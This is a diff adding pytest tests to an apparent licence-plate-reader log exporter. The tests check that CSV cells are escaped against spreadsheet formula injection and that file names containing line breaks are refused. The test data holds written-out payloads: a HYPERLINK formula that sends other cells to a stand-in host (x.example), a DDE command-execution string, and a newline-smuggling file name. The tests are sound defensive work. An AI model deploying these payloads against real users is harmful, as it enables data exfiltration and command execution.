@@ -162,3 +162,34 @@ def test_the_sqlite_file_named_is_read_though_the_chains_database_url_is_set(tmp
     code, err = export(capsys, "--csv", tmp_path / "two.csv", "--sqlite", log,
                        "--database-url", "postgresql://alpr@127.0.0.1:1/city")  # fmt: skip
     assert code == 2 and "--sqlite and --database-url name two logs" in err and not (tmp_path / "two.csv").exists()
+
+
+def test_no_exported_cell_is_a_formula_when_a_spreadsheet_opens_it(tmp_path, capsys):
+    """The chain writes no such text, but a login with the workers' rights can: a camera named
+    `=HYPERLINK(...)` sent the export's other cells to a web address when the CSV was opened."""
+    log = write_log(tmp_path / "reads.sqlite", ["KPX4721", "ABC123"])
+    with sqlite3.connect(log) as connection:
+        connection.execute("UPDATE plate_reads SET camera_id = '=HYPERLINK(\"http://x.example/?\"&G2,\"cam 7\")',"
+                           " plate_text = '@SUM(1+1)*cmd|'' /C calc''!A0' WHERE plate_text = 'KPX4721'")  # fmt: skip
+        connection.execute("UPDATE plate_reads SET camera_id = '-2+3', plate_text = '+1' WHERE plate_text = 'ABC123'")
+    connection.close()
+    code, err = export(capsys, "--csv", tmp_path / "out.csv", "--sqlite", log)
+    assert code == 0, err
+    with (tmp_path / "out.csv").open() as handle:
+        rows = list(csv.DictReader(handle))
+    cells = [row[name] for row in rows for name in ("camera_id", "plate_text")]
+    assert cells == ['\'=HYPERLINK("http://x.example/?"&G2,"cam 7")', "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3", "'+1"]
+    assert all(not row["x1"].startswith("'") for row in rows)  # numbers as they are
+
+
+def test_a_file_named_with_a_line_break_is_refused_before_anything_is_recorded(tmp_path, capsys):
+    """The record names the file: `a\nsearched_by chief.csv` wrote a line of its own into it."""
+    log = write_log(tmp_path / "reads.sqlite", ["KPX4721"])
+    code, err = export(capsys, "--csv", tmp_path / "a\nexported_by chief.csv", "--sqlite", log)
+    assert code == 2 and err.startswith("alpr: error: --csv: ") and len(err.splitlines()) == 1
+    with sqlite3.connect(log) as connection:  # no record (its table is made with the first)
+        tables = {row[0] for row in connection.execute("SELECT name FROM sqlite_master")}
+        assert (
+            "plate_exports" not in tables or connection.execute("SELECT count(*) FROM plate_exports").fetchone()[0] == 0
+        )
+    connection.close()
